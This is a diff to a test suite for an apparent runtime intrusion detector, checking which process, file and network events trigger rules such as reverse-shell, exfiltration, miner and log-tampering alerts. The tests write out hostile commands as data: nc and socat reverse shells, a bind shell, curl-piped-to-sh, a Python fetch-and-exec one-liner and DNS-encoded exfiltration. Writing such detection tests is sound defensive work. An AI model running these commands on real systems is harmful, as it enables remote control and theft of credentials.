@@ -109,7 +109,9 @@ def test_nc_e_shell(fire: Any, ev: Any) -> None:
                ev.connect(300, "203.0.113.9", 8443, fd=3),
                *(ev.dup(300, 3, fd, is_socket=True, daddr="203.0.113.9", dport=8443) for fd in (0, 1, 2)),
                ev.exec(300, "/bin/sh", "sh"))
-    assert got == ["reverse_shell_socket_dup"] * 2 + ["reverse_shell_exec_socket_stdio"]  # dups onto 1 and 2
+    # dups onto 1 and 2; sh reads its commands from a process holding an outbound socket
+    assert got == ["reverse_shell_socket_dup"] * 2 + ["reverse_shell_exec_socket_stdio",
+                                                      "shell_spawned_by_network_process"]
 
 
 def test_python_one_liner_with_subprocess(fire: Any, ev: Any) -> None:
@@ -149,10 +151,13 @@ def test_private_network_in_restricted_sessions(fire: Any, ev: Any) -> None:
     assert fire(ev.connect(10, "10.0.0.8", 22)) == []
 
 
-def test_c2_and_miner_ports(fire: Any, ev: Any) -> None:
-    assert fire(ev.connect(10, "203.0.113.5", 4444)) == ["c2_or_miner_port_connect"]
-    assert fire(ev.connect(10, "203.0.113.5", 14444, family="inet")) == ["c2_or_miner_port_connect"]
+def test_c2_and_miner_ports(fire: Any, ev: Any, bundled: Any) -> None:
+    assert fire(ev.connect(10, "203.0.113.5", 4444)) == ["c2_port_connect"]
+    assert fire(ev.connect(10, "203.0.113.5", 14444, family="inet")) == ["mining_pool_port_connect"]
     assert fire(ev.connect(10, "127.0.0.1", 4444), ev.connect(10, "203.0.113.5", 443)) == []
+    # a port number alone is a low-severity hint
+    severity = {c.id: c.rule.severity.name for c in bundled.rules}
+    assert severity["c2_port_connect"] == severity["mining_pool_port_connect"] == "LOW"
 
 
 # ---- credentials -----------------------------------------------------------------------------
@@ -258,8 +263,13 @@ def test_persistence_writes_by_their_own_tools(fire: Any, ev: Any) -> None:
                 ev.open(11, ".git/hooks/pre-commit", kind="write")) == []
     assert fire(ev.exec(12, "/usr/bin/dpkg", "dpkg", "-i", "x.deb"), ev.open(12, "/etc/cron.d/x", kind="write"),
                 ev.chmod(12, "/usr/bin/sudo", 0o4755)) == []
+    # bash appends to its history (O_APPEND)
     assert fire(ev.open(13, "/workspace/src/main.py", kind="write"), ev.open(13, "/home/code/.bash_history",
-                                                                             kind="write")) == []
+                                                                             kind="write", flags=0o2101)) == []
+    # cp -r of a repository creates .git/config anew (O_CREAT|O_EXCL): no repository changed
+    assert fire(ev.exec(17, "/usr/bin/cp", "cp", "-r", "repo", "/tmp/copy"),
+                ev.open(17, "/tmp/copy/.git/config", kind="write", flags=0o301),
+                ev.open(17, "/tmp/copy/.git/hooks/pre-commit.sample", kind="write", flags=0o301)) == []
     # reading a persistence file is not writing it
     assert fire(ev.open(14, "/home/code/.bashrc", kind="sensitive")) == []
 
@@ -270,6 +280,18 @@ def test_git_config_that_runs_commands(fire: Any, ev: Any) -> None:
     assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "core.hooksPath=/tmp/h", "commit")) == [
         "git_config_code_execution"]
     assert fire(ev.exec(10, "/usr/bin/git", "git", "config", "user.name", "x")) == []
+    assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "alias.x=!sh -c id", "x")) == ["git_config_code_execution"]
+    assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "core.pager=sh -c id", "log")) == [
+        "git_config_code_execution"]
+    # values that switch the feature off or name git's own helpers run nothing
+    for argv in (("-c", "core.hooksPath=/dev/null", "commit", "-m", "x"),
+                 ("-c", "credential.helper=", "-c", "credential.helper=store", "fetch"),
+                 ("-c", "credential.helper=cache --timeout=60", "push"),
+                 ("-c", "core.pager=cat", "log"), ("-c", "core.editor=true", "rebase", "-i"),
+                 ("-c", "core.sshCommand=ssh -o BatchMode=yes", "fetch"),
+                 ("config", "--global", "credential.helper", "store"),
+                 ("-c", "alias.co=checkout", "co", "main")):
+        assert fire(ev.exec(10, "/usr/bin/git", "git", *argv)) == [], argv
 
 
 def test_setuid_bits(fire: Any, ev: Any) -> None:
@@ -292,8 +314,13 @@ def test_exec_tricks(fire: Any, ev: Any) -> None:
     assert fire(ev.exec(10, "/memfd:payload (deleted)", "x", flags=1 << 3)) == ["exec_from_memfd"]
     assert fire(ev.exec(10, "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", comm="runc:[1:CHILD]")) == []
     assert fire(ev.exec(10, "/dev/shm/x")) == ["exec_from_dev_shm"]
-    assert fire(ev.exec(10, "/tmp/x")) == ["exec_from_tmp"]
+    assert fire(ev.exec(10, "/tmp/.x")) == ["exec_from_tmp"]
     assert fire(ev.exec(10, "/tmp/go-build2981/b001/exe/main")) == []
+    # venvs and build directories in /tmp: judged by who wrote the file, not where it is
+    assert fire(ev.exec(10, "/tmp/venv-a1/bin/python3", "python3", "-m", "pytest")) == []
+    assert fire(ev.exec(11, "/usr/bin/gcc", "gcc", "-o", "/tmp/build/app", "a.c"),
+                ev.open(11, "/tmp/build/app", kind="write", comm="gcc"),
+                ev.exec(12, "/tmp/build/app", "/tmp/build/app")) == []
     assert fire(ev.exec(10, "/home/code/x (deleted)", flags=1 << 2)) == ["exec_deleted_file"]
     assert fire(ev.exec(10, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "/tmp/noexec/x")) == [
         "exec_ld_so_direct"]
@@ -301,7 +328,7 @@ def test_exec_tricks(fire: Any, ev: Any) -> None:
     assert fire(ev.exec(20, "/bin/bash", "/bin/bash", "/usr/bin/ldd", "/bin/ls"), ev.fork(20, 21),
                 ev.exec(21, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "--verify", "/bin/ls",
                         ppid=20)) == []
-    assert fire(ev.exec(10, "/opt/xmrig/xmrig", "xmrig")) == ["crypto_miner_exec"]
+    assert fire(ev.exec(10, "/opt/xmrig/xmrig", "xmrig")) == ["miner_name_exec"]
     assert fire(ev.exec(10, "/home/code/syst", "syst", "-o", "stratum+tcp://pool.example:3333")) == [
         "crypto_miner_exec"]
     assert fire(ev.exec(10, "/failed/xmrig", errno=2)) == []
@@ -427,3 +454,151 @@ def build_like_workload(ev: Any) -> list:
 
 def test_ordinary_build_work_fires_nothing(fire: Any, ev: Any) -> None:
     assert fire(*build_like_workload(ev)) == []
+
+
+# ---- issue 13: behaviour over names ----------------------------------------------------------
+
+def test_tool_reading_its_own_config_is_not_theft(fire: Any, ev: Any) -> None:
+    own = ((ev.exec(10, "/usr/bin/node", "node", "/usr/bin/npm", "install", comm="npm"), "/home/code/.npmrc"),
+           (ev.exec(11, "/usr/bin/pip3", "pip3", "install", "x"), "/home/code/.config/pip/pip.conf"),
+           (ev.exec(12, "/usr/bin/git", "git", "credential-store", "get"), "/home/code/.git-credentials"),
+           (ev.exec(13, "/usr/bin/gh", "gh", "pr", "list"), "/home/code/.config/gh/hosts.yml"),
+           (ev.exec(14, "/usr/bin/docker", "docker", "pull", "x"), "/home/code/.docker/config.json"),
+           (ev.exec(15, "/usr/bin/kubectl", "kubectl", "get", "pods"), "/home/code/.kube/config"),
+           (ev.exec(16, "/usr/bin/curl", "curl", "-n", "https://x"), "/home/code/.netrc"))
+    for exe, path in own:
+        assert fire(exe, ev.open(exe.pid, path, comm=exe.comm)) == [], path
+    # the same files read by anything else are
+    assert fire(ev.exec(20, "/usr/bin/cat", "cat", ".npmrc"), ev.open(20, "/home/code/.npmrc")) == [
+        "cloud_credential_read"]
+    assert fire(ev.exec(21, "/usr/bin/curl", "curl", "-K", "x"), ev.open(21, "/home/code/.aws/credentials")) == [
+        "cloud_credential_read"]
+    assert fire(ev.exec(22, "/usr/bin/node", "node", "-e", "..."), ev.open(22, "/home/code/.npmrc")) == [
+        "cloud_credential_read"]
+    assert fire(ev.exec(23, "/usr/bin/python3", "python3", "steal.py"),
+                ev.open(23, "/home/code/.git-credentials")) == ["cloud_credential_read"]
+
+
+def test_process_viewers_and_memory_reads(fire: Any, ev: Any) -> None:
+    assert fire(ev.exec(10, "/usr/bin/ps", "ps", "-e"), ev.open(10, "/proc/4242/environ", comm="ps")) == []
+    assert fire(ev.exec(11, "/usr/bin/top", "top", "-b"), ev.open(11, "/proc/4242/environ", comm="top")) == []
+    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "dump.py"), ev.open(12, "/proc/4242/mem")) == [
+        "other_process_memory_read"]
+    assert fire(ev.exec(13, "/usr/bin/gdb", "gdb", "-p", "4242"), ev.open(13, "/proc/4242/mem")) == []
+    assert fire(ev.open(14, "/proc/self/mem"), ev.open(14, "/proc/14/mem")) == []
+
+
+def test_connect_attempts_count_whatever_the_errno(fire: Any, ev: Any) -> None:
+    for errno in (0, 115, 111, 101, 1):
+        got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
+                   ev.open(201, "/home/code/.ssh/id_rsa", ppid=200, comm="cat"),
+                   ev.connect(202, "203.0.113.7", 443, ppid=200, comm="curl", errno=errno))
+        assert got == ["ssh_private_key_read", "exfil_secret_read_then_connect"], errno
+    # bytes sent count even when no connect was seen (a socket inherited, sendto)
+    got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.open(201, "/home/code/.ssh/id_rsa", ppid=200),
+               ev.send(201, "203.0.113.7", 53, 600, ppid=200))
+    assert got == ["ssh_private_key_read", "exfil_secret_read_then_connect"]
+
+
+def test_dns_as_a_channel(fire: Any, ev: Any) -> None:
+    t0 = 60_000_000_000
+    burst = [ev.connect(10, "198.18.0.53", 53, ts=t0 + i * 100_000_000, comm="python3") for i in range(41)]
+    assert fire(*burst) == ["exfil_dns_query_burst"]
+    assert fire(*burst[:40]) == []
+    assert fire(ev.exec(11, "/usr/bin/dig", "dig", "@198.18.0.53",
+                        "QUtJQUlPU0ZPRE5ON0VYQU1QTEUKd0phbHJYVXRuRkVNSS9LN01ERU5H.x.example")) == [
+        "exfil_dns_encoded_query"]
+    assert fire(ev.exec(12, "/usr/bin/dig", "dig", "github.com", "+short")) == []
+
+
+def test_relayed_and_piped_shells(fire: Any, ev: Any) -> None:
+    # mkfifo f; cat f | sh -i 2>&1 | nc HOST 443 > f: sh and nc are siblings under bash -c
+    pipeline = "cat /tmp/f | /bin/sh -i 2>&1 | nc 198.18.0.2 443 > /tmp/f"
+    got = fire(ev.exec(200, "/bin/bash", "bash", "-c", pipeline, ppid=100),
+               ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100), ev.fork(200, 203, ppid=100),
+               ev.exec(201, "/usr/bin/cat", "cat", "/tmp/f", ppid=200),
+               ev.exec(202, "/bin/sh", "/bin/sh", "-i", ppid=200),
+               ev.exec(203, "/usr/bin/nc.openbsd", "nc", "198.18.0.2", "443", ppid=200),
+               ev.connect(203, "198.18.0.2", 443, ppid=200, comm="nc", errno=115))
+    assert got == ["shell_relayed_through_network_process"]
+    # socat TCP:HOST:443 EXEC:'bash -li',pty: the shell is socat's child, the socket inherited
+    got = fire(ev.exec(300, "/usr/bin/socat", "socat", "TCP:198.18.0.2:443", "EXEC:bash -li,pty", ppid=100),
+               ev.connect(300, "198.18.0.2", 443, fd=5, comm="socat", errno=115),
+               ev.fork(300, 301, ppid=100, comm="socat"),
+               ev.exec(301, "/usr/bin/bash", "bash", "-li", ppid=300))
+    assert got == ["shell_spawned_by_network_process"]
+    # curl URL | sh
+    got = fire(ev.exec(400, "/bin/bash", "bash", "-c", "curl -s http://198.18.0.2/x | sh", ppid=100),
+               ev.fork(400, 401, ppid=100), ev.exec(401, "/bin/sh", "sh", ppid=400))
+    assert got == ["download_piped_to_shell"]
+    # nc -lvp 4444 -e /bin/sh: a bind shell
+    got = fire(ev.exec(500, "/bin/bash", "bash", "-c", "ncat -lvp 4444 -e /bin/sh", ppid=100),
+               ev.fork(500, 501, ppid=100), ev.exec(501, "/usr/bin/ncat", "ncat", "-lvp", "4444", "-e", "/bin/sh",
+                                                    ppid=500),
+               ev.fork(501, 502, ppid=500), ev.exec(502, "/bin/sh", "sh", ppid=501))
+    assert got == ["bind_shell_listener"]
+    # a long-lived shell of an agent whose commands fetch things is not a relay
+    assert fire(ev.exec(600, "/usr/bin/node", "claude", comm="claude"), ev.fork(600, 601, comm="claude"),
+                ev.exec(601, "/bin/bash", "bash", ppid=600), ev.fork(601, 602, ppid=600),
+                ev.exec(602, "/usr/bin/git", "git", "fetch", ppid=601),
+                ev.connect(602, "140.82.112.3", 443, ppid=601, comm="git")) == []
+
+
+def test_persistence_and_escalation_tools(fire: Any, ev: Any) -> None:
+    assert fire(ev.exec(10, "/usr/bin/crontab", "crontab", "/tmp/c")) == ["crontab_install"]
+    assert fire(ev.exec(10, "/usr/bin/crontab", "crontab", "-")) == ["crontab_install"]
+    assert fire(ev.exec(10, "/usr/bin/crontab", "crontab", "-l")) == []
+    assert fire(ev.exec(11, "/usr/sbin/setcap", "setcap", "cap_setuid+ep", "/tmp/python3")) == [
+        "file_capability_set"]
+    assert fire(ev.exec(11, "/usr/sbin/setcap", "setcap", "-v", "cap_net_raw+ep", "/bin/ping")) == []
+    assert fire(ev.exec(12, "/usr/sbin/insmod", "insmod", "/tmp/rootkit.ko", errno=0)) == [
+        "kernel_module_load_attempt"]
+    assert fire(ev.exec(12, "/usr/sbin/modprobe", "modprobe", "-n", "-v", "vfat")) == []
+    assert fire(ev.open(13, "/sys/fs/cgroup/x/release_agent", kind="write", errno=13)) == [
+        "container_escape_file_write"]
+    assert fire(ev.open(13, "/proc/sys/kernel/core_pattern", kind="write", errno=13)) == [
+        "container_escape_file_write"]
+    assert fire(ev.connect(14, "/var/run/docker.sock", 0, comm="curl", errno=2)) == [
+        "container_runtime_socket_connect"]
+
+
+def test_covering_tracks(fire: Any, ev: Any) -> None:
+    assert fire(ev.unlink(10, "/home/code/.bash_history")) == ["history_file_tampering"]
+    assert fire(ev.open(10, "/home/code/.bash_history", kind="write")) == ["history_file_tampering"]
+    assert fire(ev.open(11, "/var/log/auth.log", kind="write", errno=13)) == ["system_log_tampering"]
+    assert fire(ev.exec(12, "/usr/bin/shred", "shred", "-u", "/var/log/syslog")) == ["system_log_tampering"]
+    assert fire(ev.exec(13, "/bin/bash", "bash", "-i"),
+                ev.open(13, "/home/code/.bash_history", kind="write")) == []
+
+
+def test_miners_by_arguments_and_by_name(fire: Any, ev: Any) -> None:
+    assert fire(ev.exec(10, "/home/code/.cache/kswapd0", "kswapd0", "-o", "stratum+tcp://198.18.0.2:443")) == [
+        "crypto_miner_exec"]
+    assert fire(ev.exec(11, "/opt/xmrig", "xmrig", "--version")) == ["miner_name_exec"]
+
+
+def test_history_scripts_and_implants(fire: Any, ev: Any) -> None:
+    assert fire(ev.exec(10, "/usr/bin/grep", "grep", "pass", "/home/code/.bash_history"),
+                ev.open(10, "/home/code/.bash_history", comm="grep")) == ["shell_history_read"]
+    assert fire(ev.exec(11, "/bin/bash", "bash", "-i"), ev.open(11, "/home/code/.bash_history")) == []
+    # curl -o /tmp/i.sh URL; bash /tmp/i.sh
+    got = fire(ev.exec(20, "/usr/bin/curl", "curl", "-o", "/tmp/i.sh", "http://x"),
+               ev.open(20, "/tmp/i.sh", kind="write", comm="curl"),
+               ev.exec(21, "/bin/bash", "bash", "/tmp/i.sh"))
+    assert got == ["downloaded_script_run"]
+    assert fire(ev.exec(22, "/usr/bin/python3", "python3", "-c",
+                        "import urllib.request as u; exec(u.urlopen('http://x/p').read())")) == [
+        "interpreter_runs_downloaded_code"]
+    # base64 -d > f; chmod +x f; ./f
+    got = fire(ev.exec(30, "/usr/bin/base64", "base64", "-d", "p.b64"),
+               ev.open(30, "dec", kind="write", comm="base64"), ev.exec(31, "/work/dec", "./dec"))
+    assert got == ["exec_downloaded_file"]
+    # gawk's /inet shell: gawk connects, its coprocess runs sh -c
+    got = fire(ev.exec(40, "/usr/bin/gawk", "gawk", "BEGIN {...}"),
+               ev.connect(40, "198.18.0.2", 443, fd=3, comm="gawk", errno=115),
+               ev.fork(40, 41, comm="gawk"), ev.exec(41, "/bin/sh", "sh", "-c", "id", ppid=40))
+    assert got == ["shell_command_by_network_process"]
+    # pip building a package while holding its index connection is not an implant
+    assert fire(ev.exec(50, "/usr/bin/python3", "python3", "-m", "pip", "install", "x"),
+                ev.connect(50, "151.101.0.223", 443, fd=3, comm="python3"),
+                ev.fork(50, 51, comm="python3"), ev.exec(51, "/bin/sh", "sh", "-c", "gcc x.c", ppid=50)) == []
